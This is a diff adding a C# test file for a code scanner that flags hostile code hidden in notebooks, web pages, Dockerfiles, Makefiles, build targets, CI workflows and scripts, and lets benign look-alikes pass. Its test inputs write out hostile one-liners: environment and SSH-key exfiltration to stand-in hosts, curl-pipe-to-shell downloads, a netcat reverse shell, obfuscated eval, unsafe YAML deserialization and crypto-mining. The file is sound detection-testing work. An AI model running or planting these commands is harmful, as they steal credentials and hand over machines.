@@ -1,0 +1,41 @@
+namespace Symbiont.Scanning.Tests.Code;
+
+/// <summary>Code that files of other kinds carry: notebooks, pages, builds, literals, data.</summary>
+public sealed class CarriedCodeTests
+{
+    [Theory]
+    [InlineData("n.ipynb", "code-environment-exfiltration", Severity.Critical, """{"cells":[{"cell_type":"markdown","source":["x"]},{"cell_type":"code","source":["import os, requests\n","%time\n","requests.post('https://x.example', json=dict(os.environ))"]}]}""")]
+    [InlineData("n.ipynb", "code-download-and-run", Severity.Critical, """{"cells":[{"cell_type":"code","source":"!curl https://x.example/a | sh"}]}""")]
+    [InlineData("p.html", "code-obfuscated-execution", Severity.Critical, "<html><script>eval(atob('YWxlcnQ='))</script></html>")]
+    [InlineData("Dockerfile", "code-reverse-shell", Severity.Critical, "FROM x\nRUN nc -e /bin/sh 192.0.2.1 99\n")]
+    [InlineData("Makefile", "code-credential-exfiltration", Severity.Critical, "all:\n\t@curl -F k=@~/.ssh/id_rsa https://x.example\n")]
+    [InlineData("build/a.targets", "code-download-and-run", Severity.Critical, "<Project><Target Name=\"x\"><Exec Command=\"curl -s https://x.example/a | sh\" /></Target></Project>")]
+    [InlineData("w.yml", "code-environment-exfiltration", Severity.Critical, "jobs:\n  a:\n    steps:\n      - run: |\n          env | curl -d @- https://x.example\n")]
+    [InlineData("w.yml", "code-environment-exfiltration", Severity.Critical, "      - run: curl -d \"${{ toJSON(secrets) }}\" https://x.example\n")]
+    [InlineData("d.yaml", "code-unsafe-deserialization", Severity.High, "a: !!python/object/apply:os.system [\"id\"]\n")]
+    [InlineData("s.py", "code-download-and-run", Severity.Critical, "HOOK = \"\"\"#!/bin/sh\ncurl https://x.example/a | sh\n\"\"\"\n")]
+    [InlineData("s.js", "code-hidden-name", Severity.High, "x['\\u0065\\u0076\\u0061\\u006c'](y);")]
+    [InlineData("m.js", "code-mining", Severity.High, "const w = new Worker('a.js'); run('CryptoNight');")]
+    public void Carried_code_is_judged_like_a_file_of_its_own(string file, string rule, Severity severity, string text) => CodeScan.Finds(file, text, rule, severity);
+
+    [Theory]
+    [InlineData("n.ipynb", """{"cells":[{"cell_type":"code","source":["%matplotlib inline\n","!pip install pandas\n","import pandas"]},{"cell_type":"markdown","source":["`eval(atob(x))`"]}]}""")]
+    [InlineData("n.ipynb", "{ no notebook")]
+    [InlineData("p.html", "<script type=\"application/json\">{\"a\": \"eval(atob(x))\"}</script><script src=\"a.js\"></script><p>eval(atob(x))</p>")]
+    [InlineData("Dockerfile", "FROM x\nRUN apt-get update && \\\n    apt-get install -y curl && rm -rf /var/lib/apt/lists/*\n")]
+    [InlineData("Makefile", "clean:\n\trm -rf build\n\t@echo $$HOME\n")]
+    [InlineData("w.yml", "jobs:\n  a:\n    steps:\n      - run: npm test\n      - uses: x\n        with:\n          all: ${{ toJSON(secrets) }}\n")]
+    [InlineData("build/a.targets", "<Project><Target Name=\"x\"><Exec Command=\"npm ci &amp;&amp; npm run build\" ContinueOnError=\"true\" /></Target></Project>")]
+    [InlineData("d.yaml", "a: !!str x\nb: python/object\n")]
+    [InlineData("s.py", "HOOK = \"\"\"#!/bin/sh\ngit diff --cached --check\n\"\"\"\n")]
+    [InlineData("s.js", "const bom = '\\u0065\\u0301'; const hello = '\\x68\\x65\\x6c\\x6c\\x6f';")]
+    public void Honest_carried_code_passes(string file, string text) => CodeScan.Passes(file, text);
+
+    [Fact]
+    public void A_finding_in_a_notebook_stands_at_the_line_of_its_cell()
+    {
+        const string text = "{\"cells\":[\n{\"cell_type\":\"code\",\"source\":[\n\"import os\\n\",\n\"x = 1\\n\",\n\"os.system('curl https://x.example | sh')\"\n]}]}";
+
+        Assert.Equal(5, Assert.Single(CodeScan.Of("n.ipynb", text), finding => finding.Severity == Severity.Critical).Line);
+    }
+}
